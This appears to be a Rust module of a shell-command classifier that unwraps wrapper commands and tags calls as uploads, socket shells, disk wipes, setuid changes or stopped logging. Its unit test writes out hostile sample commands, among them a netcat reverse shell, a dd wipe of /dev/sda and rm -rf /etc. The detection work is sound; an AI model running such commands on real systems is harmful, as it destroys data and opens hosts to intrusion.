//! Commands of a shell: what a call of one is for, by its name and its words.

use super::table::{Command, tables};
use crate::fact::FactArgument;

/// The words of a command: its arguments as far as they are known.
pub(super) struct Words<'a> {
    words: Vec<&'a str>,
}

impl<'a> Words<'a> {
    /// Of the arguments of a call; what flows in is none of them.
    pub(super) fn of(arguments: &'a [FactArgument]) -> Self {
        let mut words = Vec::with_capacity(arguments.len());
        for argument in arguments {
            if argument.name.is_some() {
                continue;
            }
            words.extend(argument.items.iter().map(|item| &**item));
            words.extend(
                argument
                    .text
                    .as_deref()
                    .or(argument.items.is_empty().then_some("\u{FFFC}")),
            );
        }
        Self { words }
    }

    /// The words that are no flags.
    pub(super) fn operands(&self) -> impl DoubleEndedIterator<Item = &'a str> + '_ {
        self.words
            .iter()
            .copied()
            .filter(|word| !word.starts_with(['-', '+']) || word.len() == 1)
    }

    /// Every word.
    pub(super) fn all(&self) -> &[&'a str] {
        &self.words
    }

    /// The command that this one starts with the rest of its words, for commands that start others.
    pub(super) fn inner(&self, name: &str) -> Option<(String, Self)> {
        let start = match name {
            "sudo" | "doas" | "nohup" | "env" | "time" | "nice" | "timeout" | "xargs" | "exec"
            | "command" | "busybox" | "setsid" | "stdbuf" | "ionice" | "builtin" | "parallel"
            | "proxychains" | "proxychains4" | "watch" | "gtimeout" | "chroot" | "unbuffer" | "if"
            | "then" | "do" | "!" => self
                .words
                .iter()
                .position(|word| !word.starts_with('-') && !is_wrapper_value(name, word)),
            "find" | "fd" => self
                .words
                .iter()
                .position(|word| matches!(*word, "-exec" | "-execdir" | "-ok" | "-okdir" | "-x"))
                .map(|at| at + 1),
            _ => None,
        }?;
        let command = self.words.get(start)?;
        let name = command.rsplit('/').next().unwrap_or(command);
        Some((
            name.to_owned(),
            Self {
                words: self.words.get(start + 1..)?.to_vec(),
            },
        ))
    }

    fn holds(&self, wanted: &str) -> bool {
        if let Some(part) = wanted.strip_prefix('~') {
            return self.words.iter().any(|word| word.contains(part));
        }
        if let Some(start) = wanted.strip_suffix('=') {
            return self.words.iter().any(|word| {
                word.strip_prefix(start).is_some_and(|rest| {
                    rest.starts_with('=') || start.starts_with("if") || start.starts_with("of")
                })
            });
        }
        let flag = wanted.strip_prefix('-').filter(|flag| flag.len() == 1);
        self.words.iter().any(|word| {
            *word == wanted
                || flag.is_some_and(|flag| {
                    word.starts_with('-')
                        && !word.starts_with("--")
                        && (!word.starts_with("-X") || flag == "X")
                        && word.len() <= 6
                        && word.contains(flag)
                })
                || wanted.ends_with('/') && word.starts_with(wanted)
        })
    }
}

/// A duration, a number, an assignment before the command that is meant.
fn is_wrapper_value(name: &str, word: &str) -> bool {
    match name {
        "timeout" | "nice" | "gtimeout" | "ionice" | "watch" => {
            word.starts_with(|c: char| c.is_ascii_digit())
        }
        "env" | "sudo" => word.contains('='),
        "xargs" => word.len() <= 2 || word.starts_with(|c: char| c.is_ascii_digit() || c == '{' || c == '%'),
        "chroot" => word.starts_with(['/', '.', '$', '\u{FFFC}']),
        _ => false,
    }
}

/// Calls `tell` with each act of a command.
pub(super) fn acts_of(name: &str, words: &Words<'_>, mut tell: impl FnMut(&'static str)) {
    let name = name.rsplit('/').next().unwrap_or(name);
    for Command { act, words: wanted } in tables().command(name) {
        if wanted.iter().all(|word| words.holds(word)) {
            tell(act);
        }
    }
    if name.starts_with("mkfs") && words.all().iter().any(|word| word.starts_with("/dev/")) {
        tell("sh.wipe");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::rc::Rc;

    fn arguments(words: &[&str]) -> Vec<FactArgument> {
        words
            .iter()
            .map(|word| FactArgument {
                text: Some(Rc::from(*word)),
                ..FactArgument::default()
            })
            .collect()
    }

    #[test]
    fn words_decide_what_a_command_is_for() {
        for (name, words, act, expected) in [
            (
                "curl",
                &["-sF", "file=@/tmp/x", "http://h"][..],
                "sh.upload",
                true,
            ),
            ("curl", &["-s", "http://h"], "sh.upload", false),
            ("systemctl", &["stop", "rsyslog"], "sh.service-off", true),
            ("nc", &["-e", "/bin/sh", "h", "4444"], "sh.socket-shell", true),
            ("dd", &["if=/dev/zero", "of=/dev/sda"], "sh.wipe", true),
            ("chmod", &["u+s", "/tmp/x"], "sh.setuid", true),
            ("chmod", &["644", "x"], "sh.setuid", false),
        ] {
            let arguments = arguments(words);
            let mut found = false;
            acts_of(name, &Words::of(&arguments), |told| found |= told == act);
            assert_eq!(found, expected, "{name} {words:?}");
        }
        let arguments = arguments(&["-u", "root", "rm", "-rf", "/etc"]);
        let inner = Words::of(&arguments).inner("nohup");
        assert!(inner.is_some());
    }
}
